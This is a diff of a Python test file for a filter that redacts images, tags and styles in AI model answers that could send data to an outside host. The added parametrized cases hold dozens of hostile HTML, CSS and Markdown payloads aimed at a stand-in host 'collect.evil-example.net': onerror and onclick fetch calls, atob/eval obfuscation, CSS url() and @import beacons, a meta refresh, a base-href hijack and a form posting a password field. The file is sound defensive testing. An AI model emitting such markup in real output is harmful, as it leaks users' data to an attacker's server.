@@ -204,12 +204,56 @@ EVIL = "https://collect.evil-example.net"
         f'![x]({EVIL}/p?d=1 "{"t" * 400}")',
         f"![x]({EVIL}/p?d=1 no title)",
         f'<img alt="{"a" * 5000}" src="{EVIL}/p?d=1">',
+        f'<a style="background:url({EVIL}/p?d=1)">',
+        f"<h1 style='background:url(\\2f\\2f {EVIL[8:]}/p?d=1)'>",
+        f"<b onmouseover=\"new Image().src='//{EVIL[8:]}/?'+document.title\">",
+        f"<x-card\nonpointerenter = fetch('{EVIL}/?d=1')>",
+        f'<b title=a"b onclick=fetch("{EVIL}/?d=1")>',
+        f"<em <b onclick=fetch('{EVIL}/?d=1')>",
+        "<details open ontoggle=\"self['fe'+'tch'](atob('Ly9ldmls'))\">",
+        "<img src=x onerror=\"eval(atob('ZmV0Y2go'))\">",
+        "<img\nonerror=eval(name)\nsrc=x>",
+        '<a href="javascript:top[`loc`+`ation`]=name">',
+        f'<style>@import "{EVIL}/p?d=1";</style>',
+        f"<style>p {{ color: red }} q {{ background: url({EVIL}/p?d=1) }}</style>",
+        f"<style>\n.a{{}}\n{'x' * 3_000} url(//{EVIL[8:]}/p?d=1)",
+        f"<base href='{EVIL}/'> ![x](p.png?d=1)",
+        f'<meta http-equiv="refresh" content="0; url={EVIL}/">',
+        f'<svg><feImage xlink:href="{EVIL}/p?d=1"/></svg>',
+        '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
+        '<iframe src="data:text/html;base64,PGltZz4="></iframe>',
+        f'<iframe srcdoc="&lt;img src={EVIL}/p?d=1&gt;"></iframe>',
+        f'<script src="{EVIL}/x.js"></script>',
+        f'<form action="{EVIL}/in"><input name="password"></form>',
+        f'<img src="https:{EVIL[8:]}/p?d=1">',
+        f'<img src="{EVIL}/\np?d=1">',
+        f'<img srcset="{EVIL}/a,b?d=1 2x">',
+        f'<img src="{EVIL}/p?d=1"',
+        f"<b style='background:url({EVIL}/p?d=1)",
     ],
 )
 def test_an_image_that_may_carry_something_away_is_taken_out(text: str) -> None:
     said, counts = read(text)
     assert "[IMAGE_REDACTED]" in said
     assert any(kind.startswith("answer.image.") for kind in counts)
+
+
+def test_a_tag_that_goes_on_for_too_long_is_no_tag_any_more() -> None:
+    said, counts = read(f"a <b {'c ' * 600}onclick=fetch('{EVIL}/?d=1')>")
+    assert said.startswith("a &lt;b c c c")
+    assert counts["answer.image.overlong"] == 1
+
+
+def test_scripts_are_no_surprise_to_who_talks_of_code_but_what_leads_to_strangers_is() -> None:
+    handler = "<button onclick=\"fetch('/save', {body: name})\">Save</button>"
+    assert "[IMAGE_REDACTED]" in read(handler)[0]
+    assert "[IMAGE_REDACTED]" in read(handler, request=Asked(said="write HTML"))[0]
+    for request in (Asked(users="give me an HTML page"), Asked(system="You are a coding assistant.")):
+        passes(handler, request)
+        passes(
+            '<form action="https://api.example.org/in"> <script src="https://cdn.example.org/x.js"></script>', request
+        )
+        assert "[IMAGE_REDACTED]" in read(f"<b onclick=fetch('{EVIL}/?d=1')>", request=request)[0]
 
 
 def test_an_image_with_a_text_that_is_too_long_to_be_held_becomes_a_link() -> None:
@@ -226,6 +270,14 @@ def test_an_image_with_a_text_that_is_too_long_to_be_held_becomes_a_link() -> No
         '<img src="https://cdn.example.org/logo.png" alt="logo">',
         "`std::vector<div>` and a < b > c, x<y",
         "```markdown\n![build](https://img.example.io/badge?style=flat)\n```\n",
+        f"```html\n<img src=x onerror=fetch('{EVIL}/?d=1')>\n<style>p {{ background: url({EVIL}/p?d=1) }}</style>\n```\n",
+        '<button type="button" onclick="save()">Save</button> and <img src=x onerror=alert(1)>',
+        "`Map<String, List<Foo>>`, Promise<void>, <T extends Base<U>>, x <y and y> z, a <b, 2 <3, <3, <-, <br/> H<sub>2</sub>O",
+        "see <https://docs.example.com/search?q=gateway&page=2>",
+        '<details open><summary>More</summary>\n\n<kbd>Ctrl</kbd> <span style="color: red">red</span></details>',
+        "<style>\n.a { color: red; background: url(/static/a.png?v=2) }\n</style>\n<p class='a'>text</p>",
+        '<base href="/app/"> <meta charset="utf-8"> <form action="/search"><input name="q"></form>',
+        "if a <b then " + "it goes on " * 80,
     ],
 )
 def test_ordinary_images_links_and_code_stay(text: str) -> None:
